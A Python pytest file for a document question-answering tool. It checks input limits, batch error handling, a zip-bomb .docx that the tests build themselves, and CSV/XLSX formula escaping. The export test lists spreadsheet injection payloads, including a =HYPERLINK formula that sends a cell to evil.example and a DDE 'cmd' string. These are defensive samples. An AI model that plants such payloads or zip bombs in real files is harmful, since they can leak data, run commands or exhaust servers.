"""Bounded work: no question, history, batch line, file or year can take a shared deployment down (issue 19).

Each case was tried on the code before it and failed as its docstring says; the inputs are real (a zip bomb
built here, a 2 MB report without punctuation, lines of broken JSON and bytes that are not UTF-8).
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
import time
import zipfile
from difflib import SequenceMatcher
from pathlib import Path

import pytest

from rag.answer.answer import ask
from rag.answer.support import shared_run
from rag.app.cli import main
from rag.documents.ingest import read_report
from rag.documents.sections import MAX_SENTENCE, chunk_report
from rag.errors import IngestError
from rag.limits import MAX_HISTORY_TURNS, MAX_QUESTION_CHARS
from rag.store.store import add_reports, load_index

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parent.parent
JINGHU = "004_b09f2e2d8cdb3710.txt"


def rag(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def rag_process(*argv, stdin: bytes = b"", timeout: float = 300) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "rag.app.cli", *map(str, argv)], input=stdin, capture_output=True,
                          env=env, cwd=ROOT, timeout=timeout)  # fmt: skip


# ---------------------------------------------------------------- questions and history


def test_a_20000_character_question_is_refused_in_one_line_before_any_parsing(seeds_index, monkeypatch):
    """Before: 3,000 characters took 23 s, 6,000 took 53 s, and one 1 MB line grew `rag ask` to 22.6 GB."""
    from rag.answer import answer as answering

    index = load_index(seeds_index)
    monkeypatch.setattr(answering, "parse", lambda *a, **k: pytest.fail("an over-long question was parsed"))
    question = "镜湖区受理法律援助案件多少件，" * 1400  # 21,000 characters
    started = time.perf_counter()
    answer = ask(index, question)
    assert time.perf_counter() - started < 2
    assert answer.answer == f"问题过长（{len(question)} 字），请限制在 500 字以内"
    assert answer.mode == "not_found" and not answer.citations and len(answer.question) < 100
    json.dumps(answer.to_json(), ensure_ascii=False)  # `rag ask --json` stays well-formed


def test_history_turns_are_bounded_in_length_and_number(seeds_index):
    """Before: five 9,000-character history turns took 56 s."""
    index = load_index(seeds_index)
    started = time.perf_counter()
    answer = ask(index, "那镜湖区呢?", history=["鹿城区行政复议新收案件多少件?"] * 4 + ["行政复议" * 2250])
    assert answer.answer == "对话历史第 5 个问题过长（9000 字），请限制在 500 字以内" and not answer.citations
    many = [f"第{n}个无关的问题" for n in range(200)] + ["鹿城区行政复议新收案件多少件?"]
    answer = ask(index, "那镜湖区呢?", history=many)  # only the last MAX_HISTORY_TURNS are read
    assert "120" in answer.answer and answer.query.followup
    assert time.perf_counter() - started < 5
    assert MAX_HISTORY_TURNS == 10 and MAX_QUESTION_CHARS == 500


def test_the_phrase_bonus_is_linear_and_agrees_with_difflib():
    """Before: difflib's find_longest_match, quadratic in the question, was most of a 53 s answer."""
    pairs = [("开展法治宣传活动", "全年开展法治宣传活动120场次。"), ("宣传活动", "普法活动"), ("法律援助", "法援"),
             ("行政复议调解率", "行政复议案件调解率达50.6%"), ("abc", ""), ("人民调解员", "人民调解员381名")]  # fmt: skip
    for a, b in pairs:
        assert shared_run(a, b, 10) == min(SequenceMatcher(None, a, b).find_longest_match().size, 10), (a, b)
    a, b = "行政复议调解率" * 3000, "全区受理法律援助案件" * 3000  # 21,000 and 30,000 characters
    started = time.perf_counter()
    assert shared_run(a, b, 10) == 0 and shared_run(a, a[5:], 10) == 10
    assert time.perf_counter() - started < 0.5


def test_the_cli_refuses_an_over_long_question_and_search_in_one_line(seeds_index, capsys):
    code, out, err = rag(capsys, "ask", "法" * 20_000, "--index", seeds_index)
    assert code == 1 and out == "" and err == "错误: 问题过长（20000 字），请限制在 500 字以内\n"
    code, out, err = rag(capsys, "search", "法" * 20_000, "--json", "--index", seeds_index)
    assert code == 1 and out == "" and err == "错误: 检索内容过长（20000 字），请限制在 500 字以内\n"


# ---------------------------------------------------------------- batches


def test_every_batch_line_gets_one_output_line_in_order_whatever_it_holds(seeds_index, capsys, monkeypatch):
    """Before: `{"question": 5}`, a bad history, broken JSON or a lone surrogate ended the batch and lost every
    later line, and a blank line gave no output, so outputs no longer lined up with their inputs."""
    from rag.answer import answer as answering

    real_ask = answering.ask

    def ask_or_fail(index, question, **kwargs):
        if "出错" in question:
            raise TypeError("TextEncodeInput must be Union[TextInputSequence, …]")  # what the tokenizer raised
        return real_ask(index, question, **kwargs)

    monkeypatch.setattr(answering, "ask", ask_or_fail)
    lines = ["高区有多少名人民调解员?", "", '{"question": 5}', '{"question": "那镜湖区呢?", "history": "鹿城区"}',
             '{"question": "broken', '{"question": "\\ud800"}', "这一行出错", "法" * 20_000,
             json.dumps({"question": "那镜湖区呢?", "history": ["鹿城区行政复议新收案件多少件?"]}, ensure_ascii=False),
             "朝阳区2023年行政复议案件多少件?"]  # fmt: skip
    monkeypatch.setattr(sys, "stdin", io.StringIO("\n".join(lines) + "\n"))
    code, out, err = rag(capsys, "ask", "-", "--index", seeds_index)  # without --json: one JSON line each too
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["line"] for r in rows] == list(range(1, len(lines) + 1))
    assert [r["input"] for r in rows] == lines[:7] + [rows[7]["input"]] + lines[8:]
    failed = {r["line"]: r["error"] for r in rows if "error" in r}
    assert set(failed) == {2, 3, 4, 5, 6, 7, 8}
    assert failed[2] == "空行：没有问题" and "question 应为文字" in failed[3] and "history" in failed[4]
    assert "JSON" in failed[5] and "U+D800" in failed[6] and "TypeError" in failed[7] and "过长" in failed[8]
    assert "381名" in rows[0]["answer"] and "120" in rows[8]["answer"] and rows[9]["mode"] == "not_found"
    assert code == 1 and err.count("\n") == 7 and "Traceback" not in err


def test_a_batch_from_a_real_pipe_survives_bytes_that_are_not_utf8_and_a_megabyte_line(seeds_index):
    stdin = "镜湖区受理法律援助案件多少件?\n".encode() + b"\xff\xfe\xfd broken bytes\n" + b"x" * 2**20 + b"\n"
    stdin += "高区有多少名人民调解员?\n".encode()
    done = rag_process("search", "-", "-k", "2", "--index", seeds_index, stdin=stdin)
    rows = [json.loads(line) for line in done.stdout.decode().splitlines()]
    assert [r["line"] for r in rows] == [1, 2, 3, 4] and "Traceback" not in done.stderr.decode()
    assert rows[0]["query"] == "镜湖区受理法律援助案件多少件?" and len(rows[0]["hits"]) == 2
    assert "U+DCFF" in rows[1]["error"] and "过长" in rows[2]["error"] and len(rows[2]["query"]) < 100
    assert rows[3]["hits"] and done.returncode == 1


# ---------------------------------------------------------------- files


def zip_bomb_docx(path: Path, megabytes: int = 400) -> Path:
    """A real .docx whose word/document.xml inflates to `megabytes` MB of XML (spaces in one w:t)."""
    import docx

    made = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("镜湖区人民政府关于2024年法治政府建设情况的报告")
    document.save(made)
    source = zipfile.ZipFile(made)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for item in source.infolist():
            if item.filename != "word/document.xml":
                bomb.writestr(item, source.read(item))
        with bomb.open("word/document.xml", "w") as xml:
            xml.write(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.'
                      b'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>')  # fmt: skip
            block = b" " * 2**20
            for _ in range(megabytes):
                xml.write(block)
            xml.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return path


def test_a_zip_bomb_docx_is_refused_with_its_numbers_before_any_xml_is_read(tmp_path, small_report):
    """Before: a 1.78 MB .docx holding 500 MB of XML took the server past 5 GB in 16 s."""
    bomb = zip_bomb_docx(tmp_path / "镜湖区报告.docx")
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    with pytest.raises(IngestError, match=r"疑似压缩炸弹：0\.\d\d MB 的文件解压后为 40[01] MB（压缩比 \d+:1）；上限为解压后 100 MB") as caught:
        read_report(bomb)
    assert time.perf_counter() - started < 1
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 50 * 1024  # KB: nothing inflated
    assert bomb.stat().st_size < 2**20 and "未读取" in caught.value.reason
    result = add_reports(tmp_path / "ix", [bomb, small_report])  # the rest are indexed
    assert result.added == [small_report.name] and "压缩炸弹" in result.failed[0][1]


def test_a_pdf_of_too_many_pages_is_refused(tmp_path):
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(3001):
        writer.add_blank_page(width=72, height=72)
    path = tmp_path / "pages.pdf"
    with open(path, "wb") as f:
        writer.write(f)
    with pytest.raises(IngestError, match="PDF 页数过多（3001 页，上限 3000 页）"):
        read_report(path)


def one_line_report(chars: int, figure: str = "") -> str:
    """A report whose body is one line with no punctuation at all: common words, then `figure` in the middle."""
    words = "全区坚持依法行政推进法治政府建设完善行政执法程序加强行政复议规范化建设深化普法宣传教育"
    body = (words * (chars // len(words) + 1))[:chars]
    middle = chars // 2
    return "镜湖区人民政府关于2024年法治政府建设情况的报告\n" + body[:middle] + figure + body[middle:] + "\n"


def test_a_2mb_report_without_punctuation_is_cut_into_chunks_of_bounded_length(tmp_path):
    """Before: one 2 MB line became one chunk; indexing it held the write lock 15+ minutes, and every
    matching answer quoted all of it."""
    path = tmp_path / "镜湖区一行报告.txt"
    path.write_text(one_line_report(700_000), encoding="utf-8")
    assert path.stat().st_size > 2 * 10**6
    started = time.perf_counter()
    report = read_report(path)
    chunks = chunk_report(report)
    assert time.perf_counter() - started < 3
    assert len(chunks) > 900 and max(c.end - c.start for c in chunks) <= MAX_SENTENCE
    assert all(report.text[c.start : c.end] == c.text for c in chunks)


def test_an_unpunctuated_report_is_quoted_by_a_piece_at_its_offsets(tmp_path):
    path = tmp_path / "镜湖区一行报告.txt"
    path.write_text(one_line_report(30_000, "全区受理法律援助案件644件"), encoding="utf-8")
    add_reports(tmp_path / "ix", [path])
    index = load_index(tmp_path / "ix")
    assert max(c.end - c.start for c in index.chunks) <= MAX_SENTENCE
    answer = ask(index, "镜湖区受理法律援助案件多少件?")
    assert answer.citations, answer.answer
    for c in answer.citations:
        assert len(c.quote) <= MAX_SENTENCE and path.read_text(encoding="utf-8")[c.start : c.end] == c.quote
    assert "644件" in answer.answer


# ---------------------------------------------------------------- exports


def test_export_cells_that_open_like_a_formula_are_written_as_text(tmp_path):
    """Before: a report line starting with = became a live formula (=HYPERLINK(…)) in the .xlsx; CSV cells
    starting with =, +, -, @ were written as they were."""
    from dataclasses import replace

    from openpyxl import load_workbook

    from rag.app.export import write_csv, write_xlsx

    with pytest.MonkeyPatch.context() as m:  # tests/app/test_export.py's answer, wherever pytest started
        m.syspath_prepend(str(Path(__file__).parent / "app"))
        from test_export import comparison

    hostile = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
               "\t=1+1", "\r=1+1"]  # fmt: skip
    answer = comparison()
    rows = tuple(replace(row, metric=hostile[n % 6], citation=replace(row.citation, quote=hostile[(n + 1) % 6]))
                 for n, row in enumerate(answer.rows * 3))  # fmt: skip
    answer = replace(answer, rows=rows)
    with write_csv(answer, tmp_path).open(encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in list(csv.reader(f))[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {h for h in hostile} <= {c[1:] for c in cells if c.startswith("'")}
    path = write_xlsx(answer, tmp_path)
    assert b"<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(path).active
    texts = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert {c.value for c in texts} >= set(hostile) and all(c.data_type == "s" for c in texts)
    assert [c.value for c in sheet[2] if isinstance(c.value, float)] == [answer.rows[0].value], "figures stay numbers"


# ---------------------------------------------------------------- years


@pytest.mark.parametrize("year", [2099, 1899])
def test_a_year_no_report_can_have_is_refused_as_a_report_year(index_copy, tmp_path, capsys, year):
    """Before: a report dated 2099 moved 去年 / 近三年 for every question on its index; 1899 was silently kept."""
    from rag.question.parse import parse

    before = parse("镜湖区去年受理法律援助案件多少件?", load_index(index_copy)).period
    path = tmp_path / "青山区报告.txt"
    path.write_text(f"青山区人民政府关于{year}年法治政府建设情况的报告\n一、主要成效\n全年受理法律援助案件321件。\n",
                    encoding="utf-8")  # fmt: skip
    result = add_reports(index_copy, [path])
    assert result.warnings == [(path.name, f"读出的年份 {year} 不在 1949–{time.localtime().tm_year + 1} 之间，不作为报告年份（记为年份不详）")]
    index = load_index(index_copy)
    assert index.reports[path.name].year is None and all(c.year is None for c in index.chunks if c.doc == path.name)
    assert parse("镜湖区去年受理法律援助案件多少件?", index).period == before
    answer = ask(index, "青山区受理法律援助案件多少件?")
    assert "321件" in answer.answer and "None" not in answer.answer and f"｜青山区 {year}年" not in answer.answer
    code, out, _ = rag(capsys, "docs", "--index", index_copy)
    line = next(row for row in out.splitlines() if row.startswith(path.name))
    assert code == 0 and "None" not in out and line.split("\t")[1].startswith("青山区") and line.split("\t")[2] == "年份不详"
